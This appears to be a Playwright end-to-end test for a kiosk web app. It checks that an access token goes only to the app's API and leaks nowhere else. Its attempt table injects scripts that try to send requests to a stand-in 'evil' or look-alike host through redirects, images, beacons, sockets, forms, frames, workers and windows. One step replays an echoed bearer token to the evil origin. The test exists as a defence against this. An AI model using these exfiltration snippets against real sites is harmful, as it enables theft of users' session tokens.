import type { Page } from 'playwright-core'
import { expect, signIn, test } from './kiosk-test.ts'
import { startTheftServers, type TheftServers } from './theft-servers.ts'

// Long enough for what was refused to happen all the same.
const SETTLE_MS = 1_000

/** What a script of the app, or one that got into it, may try. Each asks under a path of its own. */
const ATTEMPTS: Readonly<Record<string, (origins: TheftServers['origins']) => string>> = {
  'a redirect to another origin': ({ api, evil }) => `fetch('${api}/go?to=${evil}/by-redirect').catch(() => {})`,
  'a redirect back to the API': ({ api, evil }) => `fetch('${evil}/go?to=${api}/by-detour').catch(() => {})`,
  'a redirect within the API': ({ api }) => `fetch('${api}/go?to=${api}/by-second-hop').catch(() => {})`,
  'a look-alike host': ({ lookAlike }) => `fetch('${lookAlike}/by-look-alike').catch(() => {})`,
  'another port': ({ api }) => `fetch('${api.replace(/\d+$/, '1')}/by-port').catch(() => {})`,
  'the app’s own server': () => `fetch('/by-app').catch(() => {})`,
  'a picture': ({ api }) => `new Image().src = '${api}/by-picture'`,
  'a script': ({ api }) =>
    `document.body.append(Object.assign(document.createElement('script'), { src: '${api}/by-script' }))`,
  'a style': ({ api }) =>
    `document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: '${api}/by-style' }))`,
  'a beacon': ({ api }) => `navigator.sendBeacon('${api}/by-beacon', 'x')`,
  'a socket': ({ api }) => `new WebSocket('${api.replace('https', 'wss')}/by-socket')`,
  'a form into a frame': ({ api }) =>
    `document.body.insertAdjacentHTML('beforeend', '<iframe name="target"></iframe><form method="post" action="${api}/by-form" target="target"></form>'); document.forms[0].submit()`,
  'the API’s own page in a frame': ({ api }) => frame(`${api}/as-frame`),
  'a stranger’s frame and its worker': ({ evil }) => frame(`${evil}/stranger`),
  'the app’s page in a stranger’s frame': ({ evil }) => frame(`${evil}/nest`),
  'a sandboxed frame': () => frame('/sandboxed', 'allow-scripts'),
  'a shared worker': () => `new SharedWorker('/shared.js')`,
  'a service worker': () => `navigator.serviceWorker.register('/service.js').catch(() => {})`,
  'a window of its own': ({ api }) => `window.open('${api}/by-window')`,
  'the page itself': ({ api }) => `location.href = '${api}/by-navigation'`,
}

function frame(url: string, sandbox?: string): string {
  const attributes = JSON.stringify({ src: url })
  const fence = sandbox === undefined ? '' : `f.setAttribute('sandbox', '${sandbox}');`
  return `{ const f = document.createElement('iframe'); ${fence} Object.assign(f, ${attributes}); document.body.append(f) }`
}

/** Runs text in the page as a script that got into it would. */
async function run(app: Page, script: string): Promise<void> {
  await app.evaluate((source) => {
    document.body.append(Object.assign(document.createElement('script'), { textContent: source }))
  }, script)
}

test('the access token goes to the API with the app’s own requests, and nowhere else by any other way', async ({
  openWorld,
}) => {
  const opened = Promise.withResolvers<TheftServers>()
  const world = await openWorld({
    reception: async (provider, cleanups) => {
      const servers = await startTheftServers(provider, cleanups)
      opened.resolve(servers)
      return servers.app
    },
  })
  const { received, origins } = await opened.promise
  const glass = await signIn(world)
  const app = await glass.hosted()
  const tokens = () => world.provider.journal.secretsOf('access token')
  const withToken = () =>
    received.filter(({ headers }) => tokens().some((token) => JSON.stringify(headers).includes(token)))
  const heard = (path: string) => received.filter((each) => each.path.startsWith(path))

  await test.step('the app’s own request carries it, and so does one from its own frame', async () => {
    expect(await app.evaluate((api) => fetch(`${api}/plain`).then((answer) => answer.text()), origins.api)).toBe(
      'answered',
    )
    await run(app, frame('/own-frame'))
    await expect.poll(() => heard('/by-own-frame').length).toBe(1)
    expect(withToken().map(({ path }) => path)).toEqual(['/plain', '/by-own-frame'])
  })

  for (const [what, script] of Object.entries(ATTEMPTS)) {
    await test.step(`${what} does not`, async () => {
      await run(app, script(origins))
    })
  }
  const tried = ['by-redirect', 'by-detour', 'by-second-hop', 'by-look-alike', 'by-app', 'by-picture', 'by-script']
  tried.push('by-style', 'by-beacon', 'by-socket', 'by-form', 'by-api-frame', 'by-stranger', 'by-stranger-worker')
  tried.push('by-nested-frame', 'by-sandboxed-frame', 'by-shared-worker', 'by-service-worker', 'report')
  await test.step('they were all really tried', async () => {
    await expect.poll(() => tried.filter((path) => heard(`/${path}`).length === 0), { timeout: 20_000 }).toEqual([])
    await app.waitForTimeout(SETTLE_MS)
  })

  await test.step('of all these, only the two first steps of a redirect came with a token', () => {
    const stolen = withToken().map(({ host, path }) => `${host}${path.replace(/\?.*/, '')}`)
    const expected = ['api.localhost/plain', 'api.localhost/by-own-frame', 'api.localhost/go', 'api.localhost/go']
    expect(stolen.toSorted()).toEqual(expected.toSorted())
  })

  await test.step('no window opened, and the page is where it was', async () => {
    expect([...heard('/by-window'), ...heard('/by-navigation')].map(({ path }) => path)).toEqual([])
    expect(app.url()).toBe(`${origins.app}/`)
    expect(await app.evaluate(() => window.open('/'))).toBeNull()
  })

  await test.step('the page reads it nowhere: not in its timings, its cookies, its storage or an answer’s headers', async () => {
    const readable = await app.evaluate(async (api) => {
      const answer = await fetch(`${api}/plain`)
      const entries = performance.getEntries().map((entry) => JSON.stringify(entry))
      return [...entries, ...answer.headers, answer.url, document.cookie, ...Object.entries(localStorage)].flat().join()
    }, origins.api)
    for (const token of tokens()) expect(readable).not.toContain(token)
  })

  await test.step('a token that the API echoes to the page does not leave under its own name', async () => {
    const echoed = await app.evaluate(async ({ api, evil }) => {
      const authorization = await (await fetch(`${api}/echo`)).text()
      const headers = { authorization }
      await fetch(`${evil}/replayed`, { headers }).catch(() => {})
      await fetch(`${api}/go?to=${evil}/replayed-by-redirect`, { headers }).catch(() => {})
      return authorization
    }, origins)
    // The API itself gave it away: the page can read what the API says.
    expect(tokens()).toContain(echoed.replace('Bearer ', ''))
    expect(heard('/replayed').length).toBeGreaterThan(0)
    for (const { headers } of heard('/replayed')) expect(headers.authorization).toBeUndefined()
  })

  await test.step('no stranger has received it in any form', () => {
    for (const { host, ...rest } of received.filter(({ host }) => host !== 'api.localhost')) {
      for (const token of tokens()) expect(JSON.stringify(rest), host).not.toContain(token)
    }
    for (const report of heard('/report')) expect(tokens().some((token) => report.body.includes(token))).toBe(false)
  })
})
